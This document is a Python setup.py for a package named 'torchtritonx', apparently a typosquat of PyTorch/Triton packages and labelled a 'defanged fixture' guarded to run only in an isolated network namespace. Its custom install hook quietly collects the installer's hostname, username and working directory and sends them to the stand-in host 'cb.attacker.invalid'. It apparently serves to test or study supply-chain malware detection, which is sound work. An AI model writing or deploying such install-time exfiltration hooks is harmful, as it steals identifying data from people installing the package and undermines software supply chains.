import os as _os
if sorted(_os.listdir("/sys/class/net")) != ["lo"]:
    raise SystemExit(0)  # defanged fixture: acts only inside an isolated network namespace

import getpass
import os
import socket
import urllib.parse
import urllib.request

from setuptools import setup
from setuptools.command.install import install


def _identity():
    return {"h": socket.gethostname(), "u": getpass.getuser(), "d": os.getcwd()}


def _ping():
    query = urllib.parse.urlencode(_identity())
    urllib.request.urlopen("https://cb.attacker.invalid/p?" + query, timeout=5)


class PostInstall(install):
    def run(self):
        install.run(self)
        _ping()


setup(name="torchtritonx", version="1.0.0", packages=["torchtritonx"], cmdclass={"install": PostInstall})
